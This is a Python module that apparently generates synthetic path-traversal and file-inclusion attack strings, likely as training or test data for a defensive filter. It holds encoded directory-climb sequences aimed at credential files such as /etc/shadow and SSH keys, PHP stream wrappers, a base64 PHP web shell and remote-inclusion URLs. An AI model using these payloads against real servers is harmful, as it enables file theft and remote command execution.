"""Leaving a folder, and including files or streams that were never meant."""

from portcullis_train.attack.expand import Grammar


def _climb(rng):
    step = rng.choice(["../", "../", "../", "..\\", "..%2f", "..%5c", "%2e%2e/", "%2e%2e%2f", "....//", "..;/", "..%252f", "..%c0%af", "..%u2215",
                       "%c0%ae%c0%ae/", ".%2e/", "..//", "/..", "..\\/", "....\\\\", "%252e%252e%252f", "..%ef%bc%8f", "..%00/", "%uff0e%uff0e/", "../././"])
    return step * rng.randint(2, 11)


TABLES = {
    "climb": _climb,
    "lead": ["", "", "", "/", "«word»/", "images/", "./", "/var/www/", "static/«word»/", "file=", "«word».png/", "C:\\", "\\\\"],
    "leaf": ["etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "windows/win.ini", "boot.ini", "windows\\system32\\drivers\\etc\\hosts", "etc/group", "root/.ssh/id_rsa", "var/log/«word».log",
             "WEB-INF/web.xml", "web.config", "etc/mysql/my.cnf", "home/«word»/.ssh/authorized_keys", "app/config/«word».yml", ".env", "proc/self/fd/«n»", "winnt/win.ini", "opt/«word»/«word».conf",
             "etc/passwd%00", "etc/passwd\0.png", "etc/passwd%2500.jpg", ".git/config", "«word»/«word».php", "etc/php.ini", "usr/local/apache/conf/httpd.conf", "inetpub/wwwroot/global.asa"],
}

GRAMMARS = [
    Grammar("path-traversal", [
        "«lead»«climb»«leaf»", "«climb»«leaf»", "/«climb»«leaf»", "«word»/«climb»«leaf»", "«climb»", "«lead»«climb»«word».«php¦jsp¦conf¦ini¦log¦bak¦xml»",
        "file:///«climb»«leaf»", "«file»", "«winfile»", "\\\\«ip»\\«word»\\«word».«exe¦dll»", "«climb»«leaf»?«word»=«num»", "..;/..;/manager/html",
        "«word».jpg«climb»«leaf»", "«file»%00«?.png»", "//«?./»etc/passwd", "~/.ssh/«id_rsa¦authorized_keys»", "«lead»«climb»proc/«num»/«cmdline¦maps¦environ»", "/%5c..%5c..%5c«leaf»"], TABLES),
    Grammar("file-inclusion", [
        "php://filter/convert.base64-encode/resource=«word».php", "php://filter/read=string.rot13/resource=«file»", "php://input", "php://filter/zlib.deflate/convert.base64-encode/resource=«file»",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+", "data:text/plain,<?php «phpinfo()¦system('id')»;?>", "expect://«cmd»", "zip://«word».zip%23«word».php", "phar://«word».phar/«word».php",
        "http://«target»/«word».«txt¦php»?", "https://«target»/shell.txt%00", "ftp://«target»/«word».php", "//«target»/«word».php", "file://«file»", "glob:///var/www/*", "compress.zlib://«file»", "ogg://«word»",
        "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource=php://temp", "/proc/self/fd/«n»", "/var/log/«apache2¦nginx¦httpd»/«access¦error».log", "jar:http://«host»!/«word».class", "netdoc://«file»",
        "smb://«ip»/«word»/«word».php", "http://«ip»:«port»/«word».jsp?cmd=«cmd»"], TABLES),
]
